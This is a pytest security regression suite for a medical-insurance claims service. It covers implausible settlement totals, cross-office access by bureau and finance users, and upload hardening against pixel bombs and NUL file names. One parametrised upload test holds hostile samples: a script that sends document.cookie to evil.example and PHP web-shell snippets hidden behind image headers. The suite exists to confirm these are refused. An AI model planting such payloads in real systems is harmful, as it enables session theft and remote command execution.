"""Issue 9 against the claims service, each attack as it was made and now refused: implausible settlements
(§4), finance and bureau users outside their branch (§5), documents checked by content, stored only with
their row, served as attachments (§7)."""

from __future__ import annotations

import contextlib
import io
import uuid
from pathlib import Path
from typing import Any

import httpx
import pytest
from PIL import Image
from sqlalchemy import select, text
from sqlalchemy.exc import IntegrityError

from services.claims.models import Claim, ClaimDocument, Settlement
from tests.conftest import ServiceClient, token_for
from tests.service.test_claims import Branch, Member, claim_body, get_claim, setup, submit
from tests.service.test_claims_lifecycle import JPEG, PDF


def finance(branch: Branch, level: str = "office") -> dict[str, str]:
    path = branch.path[:2] if level == "office" else branch.path[:1]
    return token_for("finance", path[-1], tuple(path), level)


def bureau(branch: Branch, level: str = "office") -> dict[str, str]:
    path = branch.path[:2] if level == "office" else branch.path[:1]
    return token_for("bureau", path[-1], tuple(path), level)


def other_office(branch: Branch) -> Branch:
    """A unit under another office of the same centre."""
    return Branch(centre=branch.centre)


# --- §4 plausible settlements -----------------------------------------------------------------------------
async def test_a_personal_part_larger_than_the_whole_bill_is_refused_with_the_difference(
        rolled_back: ServiceClient) -> None:
    app, client, member = await setup(rolled_back)
    body = claim_body(member)
    body["settlement"].update(medfee_sumamt="900.00", fund_pay_sumamt="0.00", psn_part_amt="999999999999.00",
                              fulamt_ownpay_amt="0.00")
    r = await client.post("/api/v1/claims", json=body, headers=member.branch.unit_agent())
    # The attack's own figure is beyond any amount the fund handles (shared/fields.py Money): refused as such.
    assert r.status_code == 422 and r.json()["errors"][0]["loc"] == ["body", "settlement", "psn_part_amt"], r.text
    # Within that bound, a personal part larger than the bill is refused by the settlement identities.
    body["settlement"]["psn_part_amt"] = "99999999.00"
    r = await client.post("/api/v1/claims", json=body, headers=member.branch.unit_agent())
    assert r.status_code == 422, r.text
    problem = r.json()
    assert problem["code"] == "settlement_implausible" and "相差" in problem["detail"]
    [error] = problem["errors"]
    assert error["code"] == "settlement_total_mismatch"
    assert error["loc"] == ["body", "settlement", "medfee_sumamt"]
    assert (error["actual"], error["expected"], error["difference"]) == \
        ("900.00", "99999999.00", "-99999099.00")
    async with app.state.db.transaction() as session:  # nothing routed, nothing stored
        assert (await session.execute(select(Claim.id).where(
            Claim.setl_id == body["settlement"]["setl_id"]))).first() is None


@pytest.mark.parametrize(("change", "code"), [
    ({"hifp_pay": "1000.00", "maf_pay": "0.00"}, "settlement_fund_parts_mismatch"),
    ({"acct_pay": "10.00", "psn_cash_pay": "10.00"}, "settlement_person_parts_mismatch"),
    ({"fulamt_ownpay_amt": "99999.00"}, "settlement_ownpay_exceeds_person"),
])
async def test_each_broken_identity_is_refused_with_its_own_code(
        rolled_back: ServiceClient, change: dict[str, str], code: str) -> None:
    _, client, member = await setup(rolled_back)
    body = claim_body(member)  # medfee = 3 x, funds = 2 x, person = x: the totals add up
    body["settlement"].update(change)
    r = await client.post("/api/v1/claims", json=body, headers=member.branch.unit_agent())
    assert r.status_code == 422, r.text
    assert [e["code"] for e in r.json()["errors"]] == [code]


async def test_a_plausible_settlement_with_every_part_is_routed(rolled_back: ServiceClient) -> None:
    _, client, member = await setup(rolled_back)
    body = claim_body(member, base="5000.00", own_pay="1000.00")  # psn 6000, funds 12000, bill 18000
    body["settlement"].update(hifp_pay="11000.00", hifob_pay="1000.00", acct_pay="2000.00",
                              psn_cash_pay="4000.00")
    r = await client.post("/api/v1/claims", json=body, headers=member.branch.unit_agent())
    assert r.status_code == 201 and r.json()["status"] == "in_review", r.text


async def test_a_bureau_record_that_does_not_add_up_is_refused_and_not_kept(rolled_back: ServiceClient) -> None:
    app, client, member = await setup(rolled_back)
    good, bad = f"S{uuid.uuid4().hex}", f"S{uuid.uuid4().hex}"
    stay = {"certno": member.certno, "insutype": "310", "med_type": "21", "setl_time": "2026-03-05 14:20:00"}
    records = [
        {"setl_id": good, **stay, "medfee_sumamt": "900.00", "fund_pay_sumamt": "600.00", "psn_part_amt": "300.00"},
        {"setl_id": bad, **stay, "medfee_sumamt": "900.00", "fund_pay_sumamt": "0.00",
         "psn_part_amt": "99999999.00"},  # within the money bound (shared/fields.py), beyond the bill
        {"setl_id": f"S{uuid.uuid4().hex}", **stay, "medfee_sumamt": "NaN", "psn_part_amt": "300.00"},
    ]
    r = await client.post("/api/v1/settlements", json=records, headers=bureau(member.branch))
    assert r.status_code == 200, r.text
    out = r.json()
    assert out["accepted"] == 1
    assert [(x["index"], x["code"]) for x in out["rejected"]] == \
        [(1, "settlement_implausible"), (2, "settlement_amount_invalid")]
    assert out["rejected"][0]["errors"][0]["difference"] == "-99999099.00"
    async with app.state.db.transaction() as session:
        kept = set((await session.execute(select(Settlement.setl_id).where(
            Settlement.setl_id.in_([good, bad])))).scalars())
    assert kept == {good}


# --- §5 finance and bureau within their branch --------------------------------------------------------------
async def test_a_bureau_of_one_office_cannot_reverse_another_offices_claim(rolled_back: ServiceClient) -> None:
    app, client, member = await setup(rolled_back)
    created = await submit(client, member, base="5000.00")
    claim = await get_claim(client, created["claim_id"], member.token())
    attacker = bureau(other_office(member.branch))
    # The attack as made: a reversal of the victim's settlement, under its setl_id, then under a new one.
    for record in ({"setl_id": claim["setl_id"], "certno": member.certno, "refd_setl_flag": "1"},
                   {"setl_id": f"R{uuid.uuid4().hex}", "certno": member.certno, "refd_setl_flag": "1",
                    "mdtrt_id": "V1"},
                   {"setl_id": claim["setl_id"], "refd_setl_flag": "1"}):
        r = await client.post("/api/v1/settlements", json=[record], headers=attacker)
        assert r.status_code == 200, r.text
        assert (r.json()["accepted"], r.json()["outside_branch"], r.json()["claims_reversed"]) == (0, 1, [])
    assert (await get_claim(client, created["claim_id"], member.token()))["status"] == "in_review"
    async with app.state.db.transaction() as session:  # records of anyone else are not kept
        assert (await session.execute(select(Settlement).where(
            Settlement.certno == member.certno))).first() is None
    # The member's own office's bureau may.
    r = await client.post("/api/v1/settlements", json=[{"setl_id": claim["setl_id"], "certno": member.certno,
                                                        "refd_setl_flag": "1"}], headers=bureau(member.branch))
    assert r.json()["claims_reversed"] == [created["claim_id"]]


async def test_a_bureau_reads_no_claims_and_no_documents(rolled_back: ServiceClient) -> None:
    _, client, member = await setup(rolled_back)
    created = await submit(client, member, base="5000.00")
    for path in (f"/api/v1/claims/{created['claim_id']}", f"/api/v1/claims/{created['claim_id']}/documents"):
        r = await client.get(path, headers=bureau(member.branch, "centre"))
        assert r.status_code == 403, r.text


async def test_finance_of_one_office_reads_neither_claims_nor_documents_of_another(
        rolled_back: ServiceClient, documents_dir: Path) -> None:
    _, client, member = await setup(rolled_back)
    created = await submit(client, member, base="5000.00")
    claim_id = created["claim_id"]
    r = await upload(client, claim_id, member.branch.unit_agent(), JPEG, "医保结算单")
    assert r.status_code == 201, r.text
    doc_id = r.json()["document_id"]
    outsider = finance(other_office(member.branch))
    for path in (f"/api/v1/claims/{claim_id}", f"/api/v1/claims/{claim_id}/documents",
                 f"/api/v1/claims/{claim_id}/documents/{doc_id}"):
        r = await client.get(path, headers=outsider)
        assert r.status_code == 403 and r.json()["code"] == "outside_subtree", r.text
        assert (await client.get(path, headers=finance(member.branch))).status_code == 200
        assert (await client.get(path, headers=finance(member.branch, "centre"))).status_code == 200


# --- §7 documents -----------------------------------------------------------------------------------------
@pytest.fixture
def documents_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("CLAIMS_DOCUMENTS_DIR", str(tmp_path / "documents"))
    return tmp_path / "documents"


def multipart(filename: bytes, content: bytes, doc_type: str = "id_card") -> tuple[bytes, str]:
    """A multipart body written by hand, so the file name goes out byte for byte (a NUL included)."""
    boundary = uuid.uuid4().hex
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"doc_type\"\r\n\r\n{doc_type}\r\n"
            f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"").encode() + filename + \
        b"\"\r\nContent-Type: application/octet-stream\r\n\r\n" + content + f"\r\n--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


async def upload(client: httpx.AsyncClient, claim_id: str, headers: dict[str, str], content: bytes, doc_type: str,
                 filename: str = "scan.jpg") -> httpx.Response:
    return await client.post(f"/api/v1/claims/{claim_id}/documents", headers=headers,
                             files={"file": (filename, content, "application/octet-stream")},
                             data={"doc_type": doc_type})


def stored_files(documents_dir: Path) -> list[Path]:
    return [p for p in documents_dir.rglob("*") if p.is_file()] if documents_dir.exists() else []


async def documents_of(client: httpx.AsyncClient, member: Member, claim_id: str) -> list[dict[str, Any]]:
    r = await client.get(f"/api/v1/claims/{claim_id}/documents", headers=member.branch.unit_agent())
    return list(r.json()["documents"])


@pytest.mark.parametrize(("content", "filename"), [
    (b"%PDF-<html><script>document.location='https://evil.example/'+document.cookie</script></html>", "x.pdf"),
    (b"\xff\xd8\xff\xe0<?php system($_GET['cmd']); ?>", "shell.jpg"),
    (b"\x89PNG\r\n\x1a\n<?php echo 1; ?>", "shell.png"),
])
async def test_a_file_that_only_begins_like_a_pdf_or_an_image_is_refused(
        rolled_back: ServiceClient, documents_dir: Path, content: bytes, filename: str) -> None:
    _, client, member = await setup(rolled_back)
    claim_id = (await submit(client, member, base="5000.00"))["claim_id"]
    r = await upload(client, claim_id, member.branch.unit_agent(), content, "身份证", filename)
    assert r.status_code == 422 and r.json()["code"] == "document_content_invalid", r.text
    assert stored_files(documents_dir) == [] and await documents_of(client, member, claim_id) == []


async def test_an_image_claiming_too_many_pixels_is_refused_before_it_is_decoded(
        rolled_back: ServiceClient, documents_dir: Path) -> None:
    _, client, member = await setup(rolled_back)
    claim_id = (await submit(client, member, base="5000.00"))["claim_id"]
    bomb = io.BytesIO()
    Image.new("1", (12000, 12000)).save(bomb, "PNG")  # 144 megapixels in a few kilobytes
    r = await upload(client, claim_id, member.branch.unit_agent(), bomb.getvalue(), "身份证", "bomb.png")
    assert r.status_code == 422 and r.json()["code"] == "document_content_invalid", r.text
    assert "像素" in r.json()["detail"]


async def test_a_nul_in_the_file_name_is_refused_and_nothing_is_half_stored(
        rolled_back: ServiceClient, documents_dir: Path) -> None:
    _, client, member = await setup(rolled_back)
    claim_id = (await submit(client, member, base="5000.00"))["claim_id"]
    body, content_type = multipart(b"scan\x00.jpg", JPEG)
    r = await client.post(f"/api/v1/claims/{claim_id}/documents", content=body,
                          headers={**member.branch.unit_agent(), "Content-Type": content_type})
    assert r.status_code == 422 and r.json()["code"] == "document_filename_invalid", r.text
    assert stored_files(documents_dir) == [] and await documents_of(client, member, claim_id) == []


async def test_a_commit_that_fails_leaves_no_file_behind(rolled_back: ServiceClient, documents_dir: Path) -> None:
    app, client, member = await setup(rolled_back)
    claim_id = (await submit(client, member, base="5000.00"))["claim_id"]
    async with app.state.db.transaction() as session:  # the database refuses this one row at commit
        await session.execute(text("ALTER TABLE claim_documents ADD CONSTRAINT test_refuse_row "
                                   "CHECK (filename <> 'refused-by-the-database.jpg') NOT VALID"))
    try:  # the in-process transport re-raises what the service answered 500 for, or hands over the 500
        with contextlib.suppress(IntegrityError):
            r = await upload(client, claim_id, member.branch.unit_agent(), JPEG, "身份证", "refused-by-the-database.jpg")
            assert r.status_code >= 500, r.text
    finally:
        async with app.state.db.transaction() as session:
            await session.execute(text("ALTER TABLE claim_documents DROP CONSTRAINT test_refuse_row"))
    assert stored_files(documents_dir) == []
    async with app.state.db.transaction() as session:
        assert (await session.execute(select(ClaimDocument).where(
            ClaimDocument.filename == "refused-by-the-database.jpg"))).first() is None


async def test_a_download_is_an_attachment_with_nosniff_and_its_name_in_rfc_5987(
        rolled_back: ServiceClient, documents_dir: Path) -> None:
    _, client, member = await setup(rolled_back)
    claim_id = (await submit(client, member, base="5000.00"))["claim_id"]
    r = await upload(client, claim_id, member.branch.unit_agent(), PDF, "出院证", "出院证 王𠮷;.pdf")
    assert r.status_code == 201, r.text
    [stored] = stored_files(documents_dir)
    assert stored.suffix == ".pdf" and not stored.name.startswith(".")
    r = await client.get(f"/api/v1/claims/{claim_id}/documents/{r.json()['document_id']}",
                         headers=member.token())
    assert r.status_code == 200 and r.content == PDF
    assert r.headers["x-content-type-options"] == "nosniff"
    disposition = r.headers["content-disposition"]
    assert disposition.startswith("attachment; filename=\"")
    assert "filename*=UTF-8''%E5%87%BA%E9%99%A2%E8%AF%81%20%E7%8E%8B%F0%A0%AE%B7%3B.pdf" in disposition


async def test_a_photo_that_decodes_is_stored(rolled_back: ServiceClient, documents_dir: Path) -> None:
    _, client, member = await setup(rolled_back)
    claim_id = (await submit(client, member, base="5000.00"))["claim_id"]
    png = io.BytesIO()
    Image.new("RGB", (64, 48), (10, 120, 200)).save(png, "PNG")
    r = await upload(client, claim_id, member.branch.unit_agent(), png.getvalue(), "银行卡", "card.png")
    assert r.status_code == 201 and r.json()["content_type"] == "image/png", r.text
    assert len(stored_files(documents_dir)) == 1



@pytest.mark.parametrize("value", ["NaN", "Infinity", "1e999999", "sNaN"])
async def test_a_settlement_part_that_is_not_a_finite_amount_is_refused_naming_it(
        rolled_back: ServiceClient, value: str) -> None:
    _, client, member = await setup(rolled_back)
    body = claim_body(member)
    body["settlement"]["hifp_pay"] = value
    r = await client.post("/api/v1/claims", json=body, headers=member.branch.unit_agent())
    assert r.status_code == 422, r.text
    assert r.json()["errors"][0]["loc"] == ["body", "settlement", "hifp_pay"]
